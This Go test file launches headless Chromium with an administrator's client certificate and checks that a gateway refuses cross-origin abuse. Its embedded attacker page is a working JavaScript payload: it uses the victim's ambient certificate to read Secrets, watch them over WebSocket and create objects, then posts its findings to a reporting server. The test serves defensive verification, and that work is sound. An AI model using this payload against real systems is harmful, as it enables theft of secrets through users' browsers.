//go:build browser

package attack

import (
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"portico/internal/testing/await"
)

// policy has Chromium choose a client certificate without asking. It reads policies from this file only.
const (
	policyFile = "/etc/chromium/policies/managed/portico-browser-test.json"
	policy     = `{"AutoSelectCertificateForUrls": ["{\"pattern\": \"https://localhost\", \"filter\": {}}"]}`
)

// visitedPage does what the pages of an attacker do with the certificate of a visitor, and reports to its own server what it learns.
// GATEWAY is the origin of the gateway, and REPORTS the URL that takes reports.
const visitedPage = `<!DOCTYPE html><script>
const report = text => fetch("REPORTS", {method: "POST", mode: "no-cors", body: NAME + ": " + text});
const watch = () => new Promise(done => {
	const socket = new WebSocket("GATEWAY".replace("https", "wss") + "/api/v1/namespaces/browser/secrets?watch=1");
	socket.onmessage = event => { done("has " + event.data.includes("topsecret")); socket.close(); };
	socket.onerror = () => done("refused");
});
(async () => {
	await report("origin " + (window.origin === "null" ? "null" : "its own"));
	await report("read " + await fetch("GATEWAY/api/v1/namespaces/browser/secrets", {credentials: "include"})
		.then(answer => answer.text()).then(text => "has " + text.includes("topsecret"), () => "refused"));
	await fetch("GATEWAY/api/v1/namespaces/browser/configmaps", {
		method: "POST", mode: "no-cors", credentials: "include", body: new Blob([JSON.stringify({metadata: {name: NAME}})]),
	}).catch(() => {});
	// Chromium opens a WebSocket with a certificate that another request was sent with before.
	await report("watch " + await watch());
	await report("end");
})();
</script>`

// Chromium, with the certificate of an administrator in its store, shows a page of a foreign site, one of an allowed origin, and one of a
// REST server behind the gateway. The second one reads Secrets and creates an object; the others do neither.
func TestBrowser(t *testing.T) {
	i := target
	home := t.TempDir()
	storeCertificate(t, home)
	i.namespace(t, "browser")
	i.must(t, "POST", "/api/v1/namespaces/browser/secrets", `{"metadata":{"name":"topsecret"}}`)

	reports := make(chan string, 100)
	page := ""
	config := &tls.Config{MinVersion: tls.VersionTLS12, NextProtos: []string{http1},
		Certificates: []tls.Certificate{*i.stranger.issue(t, subject{name: "pages", hosts: []string{"mallory.example", "friend.example"}})}}
	pages, err := url.Parse(runServer(t, config, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/report" {
			text, _ := io.ReadAll(r.Body)
			reports <- string(text)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, strings.ReplaceAll(page, "NAME", fmt.Sprintf("%q", strings.TrimSuffix(r.URL.Path, "/")[1:])))
	}))
	if err != nil {
		t.Fatal(err)
	}
	_, port, _ := strings.Cut(i.host, ":")
	page = strings.NewReplacer("GATEWAY", "https://localhost:"+port, "REPORTS", "https://friend.example:"+pages.Port()+"/report").Replace(visitedPage)
	const group = "pages.example.com"
	s := &server{group: group}
	i.backend(t, group, fmt.Sprintf(`{"endpoints":[{"url":%q}],"rest":{"group":%q,"version":"v1"}}`, runServer(t, nil, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/todos/page" {
			s.serveREST(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, strings.ReplaceAll(page, "NAME", `"rest"`))
	}), group))
	s.reached(t)

	for _, visit := range []struct {
		name, url string
		reports   []string
		created   int
	}{
		{"friend", "https://friend.example:" + pages.Port() + "/friend", []string{"origin its own", "read has true", "watch has true"}, http.StatusOK},
		{"mallory", "https://mallory.example:" + pages.Port() + "/mallory", []string{"origin its own", "read refused", "watch refused"}, http.StatusNotFound},
		{"rest", "https://localhost:" + port + "/apis/" + group + "/v1/todos/page", []string{"origin null", "read refused", "watch refused"}, http.StatusNotFound},
	} {
		got := browse(t, home, visit.url, reports)
		for n := range visit.reports {
			visit.reports[n] = visit.name + ": " + visit.reports[n]
		}
		t.Logf("%s: %q", visit.name, got)
		if !slices.Equal(got, visit.reports) {
			t.Errorf("%s reports %q, want %q", visit.name, got, visit.reports)
		}
		if code, answer, err := i.ask(i.admin, "GET", "/api/v1/namespaces/browser/configmaps/"+visit.name, ""); err != nil || code != visit.created {
			t.Errorf("what %s wrote: %d %s %v, want %d", visit.name, code, answer, err, visit.created)
		}
	}
}

// storeCertificate puts the administrator's certificate into the store of certificates in a home folder.
func storeCertificate(t *testing.T, home string) {
	t.Helper()
	store, bundle := filepath.Join(home, ".pki", "nssdb"), filepath.Join(home, "admin.p12")
	if err := os.MkdirAll(store, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, command := range [][]string{
		{"certutil", "-d", "sql:" + store, "-N", "--empty-password"},
		{"openssl", "pkcs12", "-export", "-inkey", target.file("admin.key"), "-in", target.file("admin.crt"), "-out", bundle, "-passout", "pass:x"},
		{"pk12util", "-d", "sql:" + store, "-i", bundle, "-W", "x"},
	} {
		if out, err := exec.Command(command[0], command[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", command[0], err, out)
		}
	}
	if err := os.MkdirAll(filepath.Dir(policyFile), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(policyFile, []byte(policy), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(policyFile) })
}

// browse shows a page until it reports that it has ended, and returns the reports before.
func browse(t *testing.T, home, page string, reports <-chan string) (got []string) {
	t.Helper()
	browser := exec.Command("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
		"--user-data-dir="+filepath.Join(home, "profile"), "--ignore-certificate-errors",
		"--host-resolver-rules=MAP mallory.example 127.0.0.1, MAP friend.example 127.0.0.1", page)
	browser.Env = append(os.Environ(), "HOME="+home)
	browser.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = syscall.Kill(-browser.Process.Pid, syscall.SIGKILL)
		_ = browser.Wait()
	}()
	for {
		select {
		case text := <-reports:
			if strings.HasSuffix(text, ": end") {
				return got
			}
			got = append(got, text)
		case <-time.After(await.Patience()):
			t.Fatalf("%s reported %q and did not end", page, got)
		}
	}
}
